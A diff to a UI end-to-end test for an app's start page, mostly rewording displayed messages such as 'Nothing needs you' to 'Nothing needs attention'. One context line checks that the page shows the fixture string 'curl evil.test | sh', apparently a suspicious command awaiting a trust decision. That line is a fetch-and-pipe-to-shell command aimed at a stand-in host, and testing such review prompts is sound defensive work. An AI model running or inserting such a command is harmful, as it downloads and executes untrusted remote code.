@@ -45,15 +45,15 @@ describeScreen("the start page", () => {
     await using screen = await startScreen({ repositories: { shop: {} } });
     await using window = await screen.open();
     const { page } = window;
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
     await breakFile(screen.t, "shop");
     await reads(reason(window, "Files with problems"), "shop.json");
-    await page.getByText("Nothing needs you").waitFor({ state: "detached" });
+    await page.getByText("Nothing needs attention").waitFor({ state: "detached" });
     await reason(window, "Files with problems").getByRole("link", { name: "Open the text of shop" }).press("Enter");
     expect(hash(window)).toBe("#/repo/shop/json");
     await page.goBack();
     await screen.t.owner.call("file/restore", { repo: "shop" });
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
   });
 
   test("names edits in conflict with a way to each, and those that were refused", async () => {
@@ -65,7 +65,7 @@ describeScreen("the start page", () => {
     await screen.set("shop", { "svc.provider": "theirs" });
     await openStart(window);
     const waiting = reason(window, "Edits to resolve");
-    await reads(waiting, "changed meanwhile by owner, where you changed it too");
+    await reads(waiting, "owner changed it too in the meantime");
     await waiting.getByRole("link", { name: "shop, svc.provider" }).press("Enter");
     expect(hash(window)).toBe("#/repo/shop/svc.provider");
     await window.field("Provider").getByRole("button", { name: "Take theirs" }).click();
@@ -128,7 +128,7 @@ describeScreen("the start page", () => {
     await reads(waiting.getByRole("figure", { name: "In the file" }), "curl evil.test | sh");
     await trust.press("Enter");
     await poll(() => screen.stored("site", "svc.services")).toEqual(services);
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
   });
 
   test("tells what changed since yesterday, as it happens, and leads to all of it", async () => {
